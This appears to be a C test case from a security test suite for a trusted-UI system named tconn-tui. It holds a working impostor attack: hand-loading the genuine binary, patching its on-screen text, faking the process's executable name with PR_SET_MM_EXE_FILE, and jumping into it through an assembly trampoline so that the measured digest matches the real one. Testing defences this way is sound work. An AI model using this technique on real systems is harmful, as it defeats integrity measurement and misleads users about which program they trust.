// SPDX-License-Identifier: Apache-2.0
/*
 * Becomes tconn-tui without executing it: maps the real file with a text changed in
 * its constants, gives its own process the real file's name (PR_SET_MM_EXE_FILE), lets
 * go of all code of its own, and jumps to the start. The digest that the kernel takes
 * is the real one's.
 *
 * attack: impostor_exe
 * class: process
 * when: idle
 * judge: self
 * unprotected: module
 * defence: confinement
 * why: PR_SET_MM wants CAP_SYS_RESOURCE; and as with ree_starts_tui, no /dev/tconn in the REE, and
 *      no CAP_SYS_ADMIN
 */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "question.h"
#include "report.h"

#define BASE	0x600000000000ul	/* where nothing else is */
#define PAGE	4096ul
#define OLD	"Trusted screen"
#define NEW	"Nobody's panel"
#define AUXV	64			/* words */

#define DOWN(x)	((x) & ~(PAGE - 1))
#define UP(x)	DOWN((x) + PAGE - 1)

extern char __executable_start[], end[];	/* of this program, by the linker */

/* What the trampoline needs, in registers. */
struct jump {
	uintptr_t image, length;	/* ours, to go */
	uintptr_t fd, gadget, page, stack;
};

/*
 * Runs in a page of its own: unmaps this program, takes the other's name, and has a
 * "syscall; ret" of tconn-tui unmap the page, which returns to its start.
 */
__asm__(
".text\n"
"trampoline:\n"
"	mov 0(%rdi), %r12\n"
"	mov 8(%rdi), %r13\n"
"	mov 16(%rdi), %r14\n"
"	mov 24(%rdi), %r15\n"
"	mov 32(%rdi), %rbx\n"
"	mov 40(%rdi), %rbp\n"
"	mov $11, %eax\n"		/* munmap(image, length) */
"	mov %r12, %rdi\n"
"	mov %r13, %rsi\n"
"	syscall\n"
"	mov $157, %eax\n"		/* prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, fd) */
"	mov $35, %edi\n"
"	mov $13, %esi\n"
"	mov %r14, %rdx\n"
"	xor %r10d, %r10d\n"
"	xor %r8d, %r8d\n"
"	syscall\n"
"	test %rax, %rax\n"
"	jne 1f\n"
"	mov %rbp, %rsp\n"
"	mov $11, %eax\n"		/* munmap(page) */
"	mov %rbx, %rdi\n"
"	mov $4096, %esi\n"
"	xor %edx, %edx\n"
"	jmp *%r15\n"
"1:	mov $231, %eax\n"		/* exit_group(98) */
"	mov $98, %edi\n"
"	syscall\n"
"trampoline_end:\n"
);
extern const char trampoline[], trampoline_end[];

static int protection(const Elf64_Phdr *segment)
{
	return (segment->p_flags & PF_R ? PROT_READ : 0) | (segment->p_flags & PF_W ? PROT_WRITE : 0) |
	       (segment->p_flags & PF_X ? PROT_EXEC : 0);
}

static bool map_segment(int fd, const Elf64_Phdr *segment)
{
	uintptr_t start = BASE + DOWN(segment->p_vaddr);
	uintptr_t file_end = BASE + segment->p_vaddr + segment->p_filesz;
	uintptr_t memory_end = BASE + segment->p_vaddr + segment->p_memsz;
	int prot = protection(segment);

	if (mmap((void *)start, file_end - start, prot, MAP_PRIVATE | MAP_FIXED, fd,
		 (off_t)DOWN(segment->p_offset)) == MAP_FAILED)
		return false;
	if (memory_end == file_end)
		return true;
	memset((void *)file_end, 0, UP(file_end) - file_end);
	return memory_end <= UP(file_end) ||
	       mmap((void *)UP(file_end), memory_end - UP(file_end), prot,
		    MAP_PRIVATE | MAP_FIXED | MAP_ANONYMOUS, -1, 0) != MAP_FAILED;
}

static const Elf64_Phdr *segments(void)
{
	return (const Elf64_Phdr *)(BASE + ((const Elf64_Ehdr *)BASE)->e_phoff);
}

static bool map_all(int fd)
{
	Elf64_Phdr copy[32];
	Elf64_Ehdr header;
	ssize_t size;
	int i;

	if (pread(fd, &header, sizeof(header), 0) != sizeof(header) || header.e_phnum > 32)
		return false;
	size = (ssize_t)(header.e_phnum * sizeof(*copy));
	if (pread(fd, copy, (size_t)size, (off_t)header.e_phoff) != size)
		return false;
	for (i = 0; i < header.e_phnum; i++)
		if (copy[i].p_type == PT_LOAD && !map_segment(fd, &copy[i]))
			return false;
	return true;
}

/* The first place of these bytes in segments with those flags. */
static char *find(uint32_t flags, const char *bytes, size_t size)
{
	const Elf64_Ehdr *header = (const Elf64_Ehdr *)BASE;
	const Elf64_Phdr *segment = segments();
	char *found = NULL;
	int i;

	for (i = 0; i < header->e_phnum && !found; i++, segment++)
		if (segment->p_type == PT_LOAD && segment->p_flags == flags)
			found = memmem((void *)(BASE + segment->p_vaddr), segment->p_filesz, bytes, size);
	return found;
}

/* Constants are not executable, so nobody minds that they were written to. */
static bool change_text(void)
{
	char *text = find(PF_R, OLD, sizeof(OLD));
	void *page = (void *)DOWN((uintptr_t)text);

	if (!text || mprotect(page, 2 * PAGE, PROT_READ | PROT_WRITE))
		return false;
	memcpy(text, NEW, sizeof(NEW));
	return mprotect(page, 2 * PAGE, PROT_READ) == 0;
}

/* Ours, but for what says where the program is. */
static void fill_auxv(unsigned long *ret)
{
	const Elf64_Ehdr *header = (const Elf64_Ehdr *)BASE;
	char **after = environ;
	const unsigned long *from;
	int i;

	while (*after)
		after++;
	from = (const unsigned long *)(after + 1);
	for (i = 0; i < AUXV - 2 && from[i] != AT_NULL; i += 2) {
		ret[i] = from[i];
		ret[i + 1] = from[i] == AT_PHDR	 ? BASE + header->e_phoff :
			     from[i] == AT_PHNUM ? header->e_phnum :
			     from[i] == AT_ENTRY ? BASE + header->e_entry :
			     from[i] == AT_BASE	 ? 0 :
						   from[i + 1];
	}
	ret[i] = ret[i + 1] = AT_NULL;
}

static void *make_page(void)
{
	void *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (page == MAP_FAILED)
		return NULL;
	memcpy(page, trampoline, (size_t)(trampoline_end - trampoline));
	return mprotect(page, PAGE, PROT_READ | PROT_EXEC) ? NULL : page;
}

static void become(void)
{
	/* On the stack, as execve() leaves it: where to return to, argc, argv, envp, auxv. */
	struct {
		unsigned long start, argc;
		char *argv[2], *envp[1];
		unsigned long auxv[AUXV];
	} stack = {
		.argc = 1, .argv = { (char[]){ "tconn-tui" } },
	};
	struct jump jump = { 0 };
	int fd = open(QUESTION_TUI, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || !map_all(fd) || !change_text())
		return;
	fill_auxv(stack.auxv);
	stack.start = BASE + ((const Elf64_Ehdr *)BASE)->e_entry;
	jump.image = (uintptr_t)__executable_start;
	jump.length = UP((uintptr_t)end) - jump.image;
	jump.fd = (uintptr_t)fd;
	jump.gadget = (uintptr_t)find(PF_R | PF_X, "\x0f\x05\xc3", 3);
	jump.page = (uintptr_t)make_page();
	jump.stack = (uintptr_t)&stack;
	if (!jump.gadget || !jump.page)
		return;
	__asm__ volatile("jmp *%0" : : "r"(jump.page), "D"(&jump) : "memory");
	__builtin_unreachable();
}

/* Busy, while our own file is mapped: the call is there, and allowed. */
static int may_change_name(void)
{
	int fd = open(QUESTION_TUI, O_RDONLY | O_CLOEXEC);
	int ret = prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, fd, 0, 0) ? -errno : 0;

	close(fd);
	return ret == -EBUSY ? 0 : ret;
}

int main(void)
{
	struct tconn_record record;
	struct question question;
	int ret;

	attack_init();
	ret = may_change_name();
	attack_ready();
	if (ret)
		attack_failed("it cannot change its name: %s", strerror(-ret));
	ret = question_start(&question, TCONN_TIMEOUT_MIN_MS, become);
	if (!ret)
		ret = question_end(&question, &record);
	if (ret == -EACCES)
		attack_failed("no session: %s", question.message);
	if (ret)
		attack_failed("it cannot be started: %s", strerror(-ret));
	attack_succeeded("session %llu was held under the digest %02x%02x%02x%02x..., with '" NEW "'",
			 (unsigned long long)record.session, record.app_digest[0],
			 record.app_digest[1], record.app_digest[2], record.app_digest[3]);
}
